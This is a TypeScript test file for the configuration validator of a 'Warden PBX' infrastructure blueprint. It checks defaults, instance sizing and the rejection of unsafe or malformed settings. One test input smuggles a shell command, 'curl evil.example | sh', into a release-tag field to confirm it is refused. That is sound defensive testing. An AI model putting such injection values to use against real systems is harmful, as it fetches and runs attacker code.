// The Warden blueprint's config: defaults meet the checklist, every bad key is reported, all at once.
import { ConfigReader, mapConfigSource } from "../../stacks/config";
import { enabledBlueprints } from "../../stacks";
import { defaultVolumeGb, readWardenPbxConfig, sizingFor } from "../../stacks/warden-pbx-config";
import { kitProgram, readiness } from "../helpers/cli";

const valid = { wardenDomain: "example.com", wardenAlertEmail: "ops@example.com", wardenSipSourceCidrs: ["198.51.100.0/24"] };

function read(values: Record<string, unknown>) {
    const reader = new ConfigReader(mapConfigSource("readiness-kit", values));
    const config = readWardenPbxConfig(reader);
    return { config, problems: reader.problems.map((problem) => `${problem.propertyPath}: ${problem.reason}`) };
}

describe("warden-pbx config", () => {
    it("defaults to the checklist's numbers", () => {
        const { config, problems } = read(valid);
        expect(problems).toEqual([]);
        expect(config).toMatchObject({
            extensions: 50,
            instanceType: "c7i.2xlarge",
            rootVolumeGb: 100,
            backupRetentionDays: 30,
            offsiteRetentionDays: 90,
            logRetentionDays: 90,
            rtpPorts: { from: 10000, to: 20000 },
            dbEngineVersion: "16",
            adminCidrs: [],
            timezone: "UTC",
        });
    });

    it("sizes the host and the volumes from the extensions", () => {
        expect(sizingFor(100)).toEqual({ cores: 4, memoryGiB: 8, defaultType: "c7i.2xlarge" });
        expect(sizingFor(101)).toEqual({ cores: 8, memoryGiB: 16, defaultType: "c7i.4xlarge" });
        expect(read({ ...valid, wardenExtensions: 300 }).config).toMatchObject({ instanceType: "c7i.4xlarge", voicemailVolumeGb: 59, recordingsVolumeGb: 293 });
        expect(defaultVolumeGb(10, 100, 50)).toBe(50);
    });

    it.each([
        [{ wardenExtensions: 0 }, "readiness-kit:wardenExtensions: must be at least 1 (extensions must be a positive integer), got 0"],
        [{ wardenExtensions: "many" }, "readiness-kit:wardenExtensions: must be an integer, got 'many'"],
        [{ wardenInstanceType: "c7i.xlarge" }, "readiness-kit:wardenInstanceType: c7i.xlarge has 2 physical cores and 8 GiB; 50 extensions need at least 4 cores and 8 GiB"],
        [{ wardenExtensions: 200, wardenInstanceType: "c7i.2xlarge" }, "readiness-kit:wardenInstanceType: c7i.2xlarge has 4 physical cores and 16 GiB; 200 extensions need at least 8 cores and 16 GiB"],
        [{ wardenInstanceType: "z9.mega" }, "readiness-kit:wardenInstanceType: unknown instance type 'z9.mega': its physical cores and memory cannot be checked"],
        [{ wardenSipSourceCidrs: ["198.51.100.0/33"] }, "readiness-kit:wardenSipSourceCidrs: '198.51.100.0/33' is not a CIDR block (e.g. 203.0.113.0/24)"],
        [{ wardenSipSourceCidrs: [] }, "readiness-kit:wardenSipSourceCidrs: required: list the networks of your SIP trunk providers and phones (0.0.0.0/0 only if phones register from anywhere)"],
        [{ wardenAdminCidrs: ["0.0.0.0/0"] }, "readiness-kit:wardenAdminCidrs: SSH must not be open to the whole internet; use Session Manager or list your admin networks"],
        [{ wardenRtpPortRange: "5000-30000" }, "readiness-kit:wardenRtpPortRange: 5000-30000 opens more than the checklist's RTP range 10000-20000"],
        [{ wardenRtpPortRange: "lots" }, "readiness-kit:wardenRtpPortRange: 'lots' is not a port range such as 10000-20000"],
        [{ wardenBackupRetentionDays: 7 }, "readiness-kit:wardenBackupRetentionDays: must be at least 30 (the checklist keeps 30 days of backups; RDS allows up to 35), got 7"],
        [{ wardenOffsiteRetentionDays: 30 }, "readiness-kit:wardenOffsiteRetentionDays: must be at least 90 (the checklist keeps 90 days off-site), got 30"],
        [{ wardenLogRetentionDays: 7 }, "readiness-kit:wardenLogRetentionDays: must be at least 30 (the checklist's log retention is 30-90 days), got 7"],
        [{ wardenRootVolumeGb: 50 }, "readiness-kit:wardenRootVolumeGb: must be at least 100 (the checklist's minimum disk is 100 GB), got 50"],
        [{ wardenDbEngineVersion: "13" }, "readiness-kit:wardenDbEngineVersion: PostgreSQL 13 is not a major version of 14 or later"],
        [{ wardenAlertEmail: "" }, "readiness-kit:wardenAlertEmail: required: set an e-mail address for alerts"],
        [{ wardenDomain: "not a domain" }, "readiness-kit:wardenDomain: 'not a domain' is not a DNS domain such as example.com"],
        [{ wardenDomain: "" }, "readiness-kit:wardenDomain: required: set a DNS domain such as example.com"],
        [{ wardenSipSourceCidrs: ["198.51.100.7/24"] }, "readiness-kit:wardenSipSourceCidrs: '198.51.100.7/24' is not a CIDR block (e.g. 203.0.113.0/24)"],
        [{ wardenSipSourceCidrs: ["1:2:3/64"] }, "readiness-kit:wardenSipSourceCidrs: '1:2:3/64' is not a CIDR block (e.g. 203.0.113.0/24)"],
        [{ wardenInstanceType: "c7g.2xlarge" }, "readiness-kit:wardenInstanceType: c7g.2xlarge is a Graviton (arm64) type; the kit's hosts and nodes boot x86_64 images"],
        [{ wardenBackupRegion: "us-east-1" }, "readiness-kit:wardenBackupRegion: us-east-1 is the stack's own region (aws:region); off-site copies must live in another region"],
        [{ wardenBackupRegion: "mars-1" }, "readiness-kit:wardenBackupRegion: 'mars-1' is not an AWS region"],
        [{ wardenVpcCidr: "10.999.0.0/16" }, "readiness-kit:wardenVpcCidr: '10.999.0.0/16' must be a private 10.x.0.0/16 block"],
        [{ wardenVpcCidr: "192.168.0.0/16" }, "readiness-kit:wardenVpcCidr: '192.168.0.0/16' must be a private 10.x.0.0/16 block"],
        [{ wardenTimezone: "Mars/Olympus" }, "readiness-kit:wardenTimezone: 'Mars/Olympus' is not an IANA timezone such as UTC or America/Chicago"],
        [{ wardenPbxRelease: "v1.2.0; curl evil.example | sh" }, "readiness-kit:wardenPbxRelease: 'v1.2.0; curl evil.example | sh' is not a Git tag or branch name"],
        [{ wardenPbxRepository: "git@github.com:x/y.git" }, "readiness-kit:wardenPbxRepository: 'git@github.com:x/y.git' is not an https:// Git repository URL"],
        [{ wardenDbAdminCidrs: ["0.0.0.0/0"] }, "readiness-kit:wardenDbAdminCidrs: the database must not admit every address; name the networks administration connects from"],
        [{ wardenDbAdminCidrs: ["10.20.300.0/24"] }, "readiness-kit:wardenDbAdminCidrs: '10.20.300.0/24' is not a CIDR block (e.g. 203.0.113.0/24)"],
        [{ wardenDbInstanceClass: "m7g.large" }, "readiness-kit:wardenDbInstanceClass: unknown RDS instance class 'm7g.large' (e.g. db.m7g.large)"],
    ])("refuses %j", (override, problem) => {
        expect(read({ ...valid, ...override }).problems).toEqual([problem]);
    });

    it("refuses an unknown blueprint", () => {
        const reader = new ConfigReader(mapConfigSource("readiness-kit", { blueprints: ["warden-pbx", "asterisk"] }));
        expect(enabledBlueprints(reader)).toEqual(["warden-pbx"]);
        expect(reader.problems).toEqual([{ propertyPath: "readiness-kit:blueprints", reason: expect.stringMatching(/^unknown blueprint 'asterisk' \(available: warden-pbx/) }]);
    });

    it("reaches the user through the gate: one line per bad key, exit 2, nothing reported", () => {
        const dir = kitProgram(
            "broken",
            [
                "config:",
                "  readiness-kit:blueprints: [warden-pbx, asterisk]",
                "  readiness-kit:wardenDomain: example.com",
                "  readiness-kit:wardenExtensions: 0",
                "  readiness-kit:wardenSipSourceCidrs: [10.0.0.0/99]",
                "  readiness-kit:wardenBackupRetentionDays: 7",
                "",
            ].join("\n"),
        );
        const result = readiness(["check", "--program", dir, "--stack", "broken"]);
        expect(result.code).toBe(2);
        expect(result.stdout).toBe("");
        const lines = result.stderr.trim().split("\n").filter((line) => !line.startsWith("npm warn"));
        expect(lines.map((line) => line.replace(/^readiness: /, "").replace(dir, "<dir>"))).toEqual([
            expect.stringMatching(/^<dir>\/Pulumi\.broken\.yaml: config\.readiness-kit:blueprints: unknown blueprint 'asterisk'/),
            "<dir>/Pulumi.broken.yaml: config.readiness-kit:wardenAlertEmail: required: set an e-mail address for alerts",
            "<dir>/Pulumi.broken.yaml: config.readiness-kit:wardenExtensions: must be at least 1 (extensions must be a positive integer), got 0",
            "<dir>/Pulumi.broken.yaml: config.readiness-kit:wardenSipSourceCidrs: '10.0.0.0/99' is not a CIDR block (e.g. 203.0.113.0/24)",
            "<dir>/Pulumi.broken.yaml: config.readiness-kit:wardenBackupRetentionDays: must be at least 30 (the checklist keeps 30 days of backups; RDS allows up to 35), got 7",
        ]);
    });
});
